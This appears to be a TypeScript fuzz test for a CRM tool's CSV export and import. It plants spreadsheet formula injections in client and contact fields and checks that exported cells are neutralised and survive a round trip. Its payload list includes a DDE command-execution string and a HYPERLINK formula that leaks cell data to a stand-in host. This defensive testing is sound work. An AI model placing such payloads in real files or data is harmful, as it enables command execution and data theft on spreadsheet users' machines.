/**
 * Cells that a spreadsheet would compute, in everything people can write, exported and imported again by the commands of
 * an operator. The judge reads the files by a reader of its own, as a spreadsheet does.
 */
import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import Database from "better-sqlite3";
import { complaints, type Found, type Given } from "../campaign.ts";
import { commanded } from "../support/commanded.ts";
import { type Chance, chanceOf } from "./random.ts";

const BEFORE = [
  "",
  " ",
  "  ",
  "\t",
  "\r",
  "\n",
  "\r\n",
  "'",
  "''",
  '"',
  "\u00a0",
  "\u200b",
  "\ufeff",
  "\u2003",
  "\u202e",
];
const SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"];
const BODIES = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://leak.example/?"&A1,"x")', "SUM(A1:A9)", "1;2\t3", "DDE"];
const AFTER = ["", "\nand more", "\r\nand more", ', "quoted"', "'"];
/** In the tables where people's own words stand. */
const PLACES = ["clients.name", "contacts.name", "contacts.title", "touchpoints.words"] as const;

const hostile = (chance: Chance, mark: number): string =>
  `${chance.pick(BEFORE)}${chance.pick(BEFORE)}${chance.pick(SIGNS)}${chance.pick(BODIES)} n${mark}${chance.pick(AFTER)}`;

/** What a spreadsheet sees first, once it has left out what it leaves out. */
const wouldCompute = (cell: string): boolean =>
  /^[=+\-@\uff1d\uff0b\uff0d\uff20]/.test([...cell].filter((sign) => !/[\s"\p{C}]/u.test(sign)).join(""));

/** `count` cells, in four places each hundred. */
export async function formulas({ count, seed, progress }: Given): Promise<Found> {
  const chance = chanceOf(seed);
  const found = complaints();
  const did = { cells: 0, "read in the export": 0, "imported again": 0 };
  const folder = await mkdtemp(join(tmpdir(), "rapport-formulas-"));
  const [first, second] = ["first.sqlite", "second.sqlite"].map((name) => join(folder, name)) as [string, string]; // two
  try {
    const rows = Math.ceil(count / PLACES.length);
    const lines = Array.from({ length: rows }, (_, at) => `Client ${at},Person ${at},CEO,2026-01-05`);
    await writeFile(join(folder, "in.csv"), `client,contact,title,last_touch\n${lines.join("\n")}\n`);
    await asked("import", ["in.csv"], first);
    const written = spoil(first, rows);
    progress(did.cells);
    await asked("export", ["out"], first);
    await readAll(written);
    progress(did["read in the export"]);
    // As an operator does who moves the clients elsewhere: the column is called otherwise, the cells are left alone.
    const clients = await readFile(join(folder, "out/clients.csv"), "utf8");
    const [head = "", ...rest] = clients.split("\r\n");
    await writeFile(join(folder, "again.csv"), [head.replace(/\bname\b/, "client"), ...rest].join("\r\n"));
    await asked("import", ["again.csv"], second);
    compare(written.get("clients.name") ?? []);
    return { did, broken: found.all };
  } finally {
    await rm(folder, { recursive: true, force: true });
  }

  async function asked(command: string, args: readonly string[], url: string): Promise<void> {
    const { code, said } = await commanded(folder, command, args, { DATABASE_URL: url });
    if (code !== 0) throw new Error(`${command} ended with ${code}: ${said.slice(0, 2_000)}`);
  }

  /** Behind Rapport's back: what it tidies away at its doors today may stand in a file of yesterday. */
  function spoil(file: string, rows: number): Map<string, string[]> {
    const db = new Database(file);
    const written = new Map<string, string[]>();
    for (const place of PLACES) {
      const [table, column] = place.split(".");
      const ids = db.prepare<[], { id: string }>(`select id from ${table}`).all();
      if (ids.length < rows) throw new Error(`${table} holds ${ids.length} of ${rows} rows`);
      const update = db.prepare(`update ${table} set ${column} = ? where id = ?`);
      db.transaction(() => {
        for (const { id } of ids) {
          const cell = hostile(chance, did.cells);
          update.run(cell, id);
          written.set(place, [...(written.get(place) ?? []), cell]);
          did.cells += 1;
        }
      })();
    }
    db.close();
    return written;
  }

  async function readAll(written: ReadonlyMap<string, readonly string[]>): Promise<void> {
    const files = await readdir(join(folder, "out"));
    for (const file of files.filter((name) => name.endsWith(".csv"))) {
      const rows = cellsOf(await readFile(join(folder, "out", file), "utf8"));
      for (const cell of rows.flat()) {
        if (!cell.startsWith("'") && wouldCompute(cell) && !/^-?\d+$/.test(cell))
          found.add(`${file}: ${JSON.stringify(cell)} would be computed`);
      }
      const table = file.replace(/\.csv$/, "");
      const all = new Set(rows.flat());
      for (const [place, cells] of written) {
        if (!place.startsWith(`${table}.`)) continue;
        for (const cell of cells) {
          if (all.has(cell) || all.has(`'${cell}`)) did["read in the export"] += 1;
          else found.add(`${place}: ${JSON.stringify(cell)} is not in ${file}`);
        }
      }
    }
  }

  function compare(names: readonly string[]): void {
    const db = new Database(second, { readonly: true });
    const kept = new Set(
      db
        .prepare<[], { name: string }>("select name from clients")
        .all()
        .map(({ name }) => name),
    );
    db.close();
    for (const name of names) {
      const tidy = name
        .replace(/[\p{Cc}\u202e\ufeff]+/gu, " ")
        .replace(/\s+/g, " ")
        .trim();
      if (kept.has(tidy)) did["imported again"] += 1;
      else found.add(`${JSON.stringify(name)} came back as something else`);
    }
  }
}

/** RFC 4180, read sign by sign. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = "";
  let quoted = false;
  for (let at = text.startsWith("\ufeff") ? 1 : 0; at < text.length; at += 1) {
    const sign = text[at] ?? "";
    if (quoted && sign === '"' && text[at + 1] === '"') {
      cell += sign;
      at += 1;
    } else if (sign === '"') quoted = !quoted;
    else if (quoted) cell += sign;
    else if (sign === "," || sign === "\n") {
      rows.at(-1)?.push(cell);
      cell = "";
      if (sign === "\n") rows.push([]);
    } else if (sign !== "\r") cell += sign;
  }
  return rows;
}
